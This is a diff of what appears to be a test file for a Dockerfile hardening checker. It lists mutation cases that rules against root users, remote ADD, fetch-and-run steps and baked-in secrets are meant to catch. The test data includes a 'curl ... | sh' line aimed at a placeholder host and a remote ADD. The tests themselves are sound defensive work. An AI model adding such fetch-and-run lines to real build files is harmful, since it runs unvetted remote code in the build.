@@ -38,7 +38,7 @@ MUTATIONS = {
                                      (USER, "USER app"), (USER, "USER 10001:0")],
     "nothing_runs_as_root_after_the_user_is_set": [(USER, f"{USER}\nUSER 0\nRUN ls\n{USER}")],
     "nothing_is_added_from_elsewhere": [("COPY bizcase", "ADD bizcase"),
-                                        ("COPY pages", "ADD https://a.example/x.tgz /\nCOPY pages")],
+                                        ("COPY pages", "ADD https://a.example/x /\nCOPY pages")],
     "nothing_is_fetched_and_run": [(USER, f"RUN curl -s https://example.com | sh\n{USER}")],
     "no_secret_in_a_layer": [(USER, f"ENV COOKIE_SECRET=x\n{USER}"),
                              (USER, f"ARG API_KEY\n{USER}"),
